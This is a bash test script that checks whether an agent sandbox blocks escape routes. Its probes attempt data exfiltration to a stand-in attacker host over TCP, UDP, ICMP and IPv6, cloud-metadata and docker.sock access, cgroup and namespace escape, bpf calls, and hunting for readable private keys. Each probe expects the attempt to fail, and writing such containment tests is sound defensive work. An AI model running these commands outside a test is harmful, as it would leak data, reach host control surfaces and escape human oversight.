#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# escapes.md rows held at the kernel and OS layers (issue 2): 1-5, 7-9, 11, 12, 14, 15, 83-85,
# 87, 89, 90, 92, 93. Rows that end at the proxy or resolver are judged here only for the kernel
# half (redirected, nothing reaches the sentinel); their proxy verdicts live with cage-proxy.
. "$(dirname "$0")/lib.sh"
lab_start

probe 1 "direct TCP to EVIL4 gets EPERM" "tcp_port_denied=1" \
	'nc -vz -w3 $EVIL4 4444 2>&1 | grep -q "Operation not permitted"'
probe 2 "HTTPS to an IP literal without proxy variables never reaches it" - \
	'! env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY curl -sk -m5 https://$EVIL4/$N'
probe 3 "an allowed name's address on ports 22 and 8443 gets EPERM" "tcp_port_denied=2" \
	'nc -vz -w3 $ALLOW4 22 2>&1 | grep -q "not permitted" && nc -vz -w3 $ALLOW4 8443 2>&1 | grep -q "not permitted"'
probe 4 "connected UDP to EVIL4 is refused" "udp_denied=1" \
	'! printf %s "$N" | nc -u -w1 $EVIL4 9999'
probe 5 "unconnected UDP sendto EVIL4 gets EPERM" "udp_denied=1" \
	'python3 -c "import socket;socket.socket(2,2).sendto(b\"$N\",(\"$EVIL4\",5353))" 2>&1 | grep -q "Operation not permitted"'
# ping carries cap_net_raw as a file capability; with an empty bounding set execve itself fails.
probe 7 "ping with a payload cannot run" - \
	'! ping -c2 -W1 -p $(printf %s "$N" | xxd -p | head -c32) $EVIL4'
probe 8 "an ICMP datagram (ping) socket is refused" "socket_protocol_denied=1" \
	'python3 -c "import socket;s=socket.socket(2,2,1);s.sendto(b\"\x08\0\0\0\0\1\0\1$N\",(\"$EVIL4\",0))" 2>&1 | grep -q "Operation not permitted"'
probe 9 "IPv6 to EVIL6 gets EPERM; HTTPS to it never reaches it" "tcp_port_denied=1" \
	'nc -6 -vz -w3 $EVIL6 4444 2>&1 | grep -q "not permitted" && ! curl -6 -sk -m5 --noproxy "*" "https://[$EVIL6]/$N"'
# The missing CAP_NET_RAW refuses SOCK_RAW in inet_create() before the sock_create hook runs,
# so no BPF event exists for it; sock_create's raw_socket reason covers a workload that
# somehow holds the capability.
probe 11 "a raw IP socket is refused" - \
	'python3 -c "import socket;socket.socket(2,socket.SOCK_RAW,17)" 2>&1 | grep -q "Operation not permitted"'
probe 12 "AF_PACKET is refused, also from a new user namespace" - \
	'python3 -c "import socket;socket.socket(17,3)" 2>&1 | grep -q "Operation not permitted" && ! unshare -r python3 -c "import socket;socket.socket(17,3)"'
probe 14 "the gateway answers only on the proxy and resolver ports" "gateway_port_denied=7" '
	for p in 22 80 443 2375 8080 8081 9090; do
		nc -zv -w1 $GW $p 2>&1 | grep -q "not permitted" || { echo "port $p not refused"; exit 1; }
	done
	for p in 53 3128; do
		nc -zv -w1 $GW $p 2>&1 | grep -q "not permitted" && { echo "port $p refused"; exit 1; }
	done; true'
probe 15 "cloud metadata directly gets EPERM" "dst_private=1" \
	'curl -s -m3 --noproxy "*" http://169.254.169.254/latest/meta-data/ ; [ $? -eq 7 ]'
probe 83 "nothing listens on the cage loopback" - '
	python3 - <<PY
import socket
open_ports = []
for p in list(range(1, 1025)) + [2375, 3128, 5432, 6379, 8080, 8081, 9090]:
    s = socket.socket(); s.settimeout(0.2)
    if s.connect_ex(("127.0.0.1", p)) == 0: open_ports.append(p)
    s.close()
print("open:", open_ports); raise SystemExit(1 if open_ports else 0)
PY'
probe 84 "no unix sockets of the host are visible" - \
	'[ -z "$(find / -xdev -type s 2>/dev/null)" ] && [ ! -e /run/user ] && [ -z "$(ls -A /tmp)" ]'
probe 85 "docker.sock and friends are absent" - '
	for s in /var/run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/dbus/system_bus_socket /run/systemd/private; do
		curl -s -m2 --unix-socket $s http://x/version && { echo "REACHED:$s"; exit 1; }
	done; true'
probe 87 "the agent cannot leave its cgroup" - '
	before=$(cat /proc/self/cgroup)
	for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs /sys/fs/cgroup/unified/../cgroup.procs; do
		(echo $$ > $f) 2>/dev/null && { echo "moved via $f"; exit 1; }
	done
	[ "$(cat /proc/self/cgroup)" = "$before" ]'
probe 89 "bpf() is refused" - '
	! bpftool prog list >/dev/null 2>&1 &&
	python3 -c "import ctypes;l=ctypes.CDLL(None,use_errno=True);r=l.syscall(321,5,0,0);raise SystemExit(0 if r==-1 and ctypes.get_errno()==1 else 1)"'
probe 90 "no new namespaces, no setns" - '
	! unshare -Urn true 2>/dev/null && ! nsenter -t 1 -n true 2>/dev/null &&
	python3 -c "import ctypes,os
l = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open(\"/proc/1/ns/net\", 0)
except OSError as e:
    raise SystemExit(0 if e.errno in (1, 13) else 1)
r = l.setns(fd, 0)
raise SystemExit(0 if r == -1 and ctypes.get_errno() in (1, 13) else 1)"'
# Files under /usr are what installed packages ship (public test fixtures); the row is about
# keys and secrets that the cage or its enforcer hold.
probe 92 "no private key or secret store is readable" '-' '
	found=
	for f in $(find / -xdev -path /usr -prune -o \( -name "*.key" -o -name "*ca*.pem" -o -name "*.p12" -o -path "*secret*" \) -readable -type f -print 2>/dev/null); do
		# A key the agent could use, not a test vector that merely mentions one.
		grep -q "PRIVATE KEY" "$f" 2>/dev/null && openssl pkey -in "$f" -noout 2>/dev/null && found="$found $f"
	done
	[ -z "$found" ] || { echo "readable private keys:$found"; exit 1; }
	[ ! -e /run/secrets ] && [ ! -e /certs ]'

probe 92b "cagectl state, logs and pins are hidden" - "
	[ ! -e /sys/fs/bpf/cagectl ] || exit 1
	for d in $CAGECTL_RUN_DIR $CAGECTL_STATE_DIR $CAGECTL_LOG_DIR; do
		[ -z \"\$(ls -A \$d 2>/dev/null)\" ] || { echo \"visible: \$d\"; exit 1; }
	done"
is "no un-NATed cage packet reached the fake internet" "$(grep -c LEAK-UNNATED "$SENTINEL")" 0
done_testing
